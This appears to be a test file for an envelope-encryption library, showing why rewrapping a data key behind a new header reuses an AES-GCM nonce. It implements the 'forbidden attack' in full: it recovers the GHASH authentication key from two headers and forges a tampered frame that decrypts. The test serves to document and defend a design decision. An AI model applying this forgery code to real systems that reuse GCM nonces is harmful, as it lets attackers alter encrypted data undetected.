// Why replacing the encrypted data keys cannot move an envelope to another key (docs/format.md, 13): the message id fixes the
// content key, and the header's IV is zero, so that a second header is a second use of one AES-GCM nonce. From two such headers the
// authentication key follows, without the key, and with it a forged envelope that opens.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { KmsPublicKey, Opener, Sealer } from 'kmseal';
import { sample } from '../support/page/bytes.mjs';
import { startKms } from '../support/servers/kms.mjs';
import { contentKey, framePlaces, readHeader, writeHeader } from '../support/message.mjs';

// GF(2^128) as in NIST SP 800-38D, 6.3, but with the bits the other way round, so that the coefficient of x^i is bit i.
const ELEMENT = (1n << 128n) - 1n;

function reversed(value) {
  return BigInt(`0b${[...value.toString(2).padStart(128, '0')].reverse().join('')}`);
}
const toField = (block) =>
  reversed(BigInt(`0x${Buffer.concat([block, Buffer.alloc(16 - block.length)]).toString('hex')}`));
const toBlock = (element) => Buffer.from(reversed(element).toString(16).padStart(32, '0'), 'hex');

function multiply(a, b) {
  if (a === 0n || b === 0n) return 0n;
  // By four bits at a time: a quarter of a million products are needed.
  const multiples = [0n, a];
  for (let bits = 2; bits < 16; bits += 2) {
    multiples[bits] = multiples[bits / 2] << 1n;
    multiples[bits + 1] = multiples[bits] ^ a;
  }
  let product = 0n;
  for (let at = 124n; at >= 0n; at -= 4n) product = (product << 4n) ^ multiples[Number((b >> at) & 15n)];
  // x^128 is x^7 + x^2 + x + 1: the second time for the seven bits that the first one adds.
  for (let time = 0; time < 2; time++) {
    const high = product >> 128n;
    product = (product & ELEMENT) ^ high ^ (high << 1n) ^ (high << 2n) ^ (high << 7n);
  }
  return product;
}

function inverse(a) {
  // a^(2^128 - 2)
  let result = 1n;
  for (let power = a, step = 1; step < 128; step++) {
    power = multiply(power, power);
    result = multiply(result, power);
  }
  return result;
}

// Polynomials over the field, as arrays of coefficients, the constant one first.
const trim = (p) => {
  while (p.length > 0 && p.at(-1) === 0n) p.pop();
  return p;
};
const add = (p, q) => trim(Array.from({ length: Math.max(p.length, q.length) }, (_, i) => (p[i] ?? 0n) ^ (q[i] ?? 0n)));

function remainder(p, divisor) {
  const rest = [...p];
  const lead = inverse(divisor.at(-1));
  while (rest.length >= divisor.length) {
    const factor = multiply(rest.at(-1), lead);
    const shift = rest.length - divisor.length;
    if (factor) divisor.forEach((coefficient, i) => (rest[i + shift] ^= multiply(coefficient, factor)));
    rest.pop();
  }
  return trim(rest);
}

const quotientBy = (p, divisor) => {
  const rest = [...p];
  const quotient = [];
  const lead = inverse(divisor.at(-1));
  while (rest.length >= divisor.length) {
    const factor = multiply(rest.at(-1), lead);
    quotient.unshift(factor);
    const shift = rest.length - divisor.length;
    if (factor) divisor.forEach((coefficient, i) => (rest[i + shift] ^= multiply(coefficient, factor)));
    rest.pop();
  }
  return trim(quotient);
};

function gcd(p, q) {
  let [a, b] = [p, q];
  while (b.length > 0) [a, b] = [b, remainder(a, b)];
  return a.map((coefficient) => multiply(coefficient, inverse(a.at(-1))));
}

/** The roots in the field of a polynomial: those of x^(2^128) - x, split by the trace of c·x. */
function roots(polynomial) {
  const split = (p) => {
    if (p.length === 2) return [p[0]]; // x + root
    for (let shift = 0n; ; shift++) {
      let term = [0n, 1n << shift];
      let trace = term;
      for (let step = 1; step < 128; step++) {
        term = remainder(squared(term), p);
        trace = add(trace, term);
      }
      const factor = gcd(p, trace);
      if (factor.length > 1 && factor.length < p.length) return [...split(factor), ...split(quotientBy(p, factor))];
    }
  };
  let power = [0n, 1n];
  for (let step = 0; step < 128; step++) power = remainder(squared(power), polynomial);
  const linear = gcd(polynomial, add(power, [0n, 1n]));
  return linear.length > 1 ? split(linear) : [];
}
const squared = (p) =>
  trim(
    p.flatMap((coefficient, i) =>
      i ? [0n, multiply(coefficient, coefficient)] : [multiply(coefficient, coefficient)],
    ),
  );

/** GHASH of AAD and ciphertext as a polynomial in the authentication key (SP 800-38D, 6.4 and 7.1). */
function ghash(aad, ciphertext) {
  const blocks = [];
  for (const bytes of [aad, ciphertext])
    for (let at = 0; at < bytes.length; at += 16) blocks.push(toField(bytes.subarray(at, at + 16)));
  const lengths = Buffer.alloc(16);
  lengths.writeBigUInt64BE(8n * BigInt(aad.length), 0);
  lengths.writeBigUInt64BE(8n * BigInt(ciphertext.length), 8);
  blocks.push(toField(lengths));
  return [0n, ...blocks.reverse()];
}
const evaluate = (p, x) => p.reduceRight((sum, coefficient) => multiply(sum, x) ^ coefficient, 0n);

let kms;
before(async () => {
  kms = await startKms();
});
after(() => kms?.close());

test('two headers under one message id reveal the authentication key, and a forged body opens', async () => {
  const [old, fresh] = await Promise.all([0, 1].map(async () => KmsPublicKey.import(await kms.createKey())));
  const envelope = Buffer.from(await new Sealer({ keys: [old], encryptionContext: { tenant: '7' } }).seal(sample(100)));
  const fields = readHeader(envelope);

  // What a "rewrap" would do with the data key from KMS: put the same frames behind a header for the new key.
  const [edk] = fields.edks;
  const { Plaintext } = await kms.decrypt({
    KeyId: old.keyId,
    CiphertextBlob: edk.ciphertext,
    EncryptionAlgorithm: 'RSAES_OAEP_SHA_256',
  });
  const edks = [{ ...edk, providerInfo: Buffer.from(fresh.keyId), ciphertext: Buffer.from(fresh.encrypt(Plaintext)) }];
  const rewrapped = Buffer.concat([
    writeHeader(contentKey(Plaintext.subarray(48), fields.messageId), { ...fields, edks }),
    envelope.subarray(fields.length),
  ]);
  const opener = new Opener({ keyIds: [fresh.keyId], decrypt: kms.decrypt });
  assert.ok(
    Buffer.from(sample(100)).equals((await opener.open(rewrapped)).plaintext),
    'it opens, and here is the harm:',
  );

  // From here on the attack uses only what anyone with both headers sees. The tags are GHASH plus one mask, and the mask is the same.
  const header = (bytes) => {
    const { length } = readHeader(bytes);
    return { body: bytes.subarray(0, length - 16), tag: toField(bytes.subarray(length - 16, length)) };
  };
  const [first, second] = [envelope, rewrapped].map(header);
  const difference = add(add(ghash(first.body, Buffer.alloc(0)), ghash(second.body, Buffer.alloc(0))), [
    first.tag ^ second.tag,
  ]);

  const [[start, end]] = framePlaces(envelope);
  const content = Buffer.from(envelope.subarray(start + 24, end - 16));
  const tag = toField(envelope.subarray(end - 16, end));
  const aad = Buffer.concat([
    fields.messageId,
    Buffer.from('AWSKMSEncryptionClient Final Frame'),
    Buffer.from([0, 0, 0, 1]),
    Buffer.from([0, 0, 0, 0, 0, 0, 0, 100]),
  ]);
  const altered = Buffer.from(content);
  altered[0] ^= sample(1)[0] ^ 0x21;

  const candidates = roots(difference);
  assert.ok(candidates.length > 0);
  const opened = [];
  for (const key of candidates) {
    const forgedTag = tag ^ evaluate(ghash(aad, content), key) ^ evaluate(ghash(aad, altered), key);
    const forged = Buffer.concat([
      rewrapped.subarray(0, rewrapped.length - content.length - 16),
      altered,
      toBlock(forgedTag),
    ]);
    opened.push(
      await opener.open(forged).then(
        ({ plaintext }) => plaintext,
        ({ code }) => code,
      ),
    );
  }
  const [forged] = opened.filter((result) => result !== 'ERR_AUTHENTICATION');
  assert.ok(forged, `${candidates.length} candidates: ${opened}`);
  assert.equal(forged[0], 0x21);
  assert.ok(Buffer.from(sample(100)).subarray(1).equals(forged.subarray(1)));
});
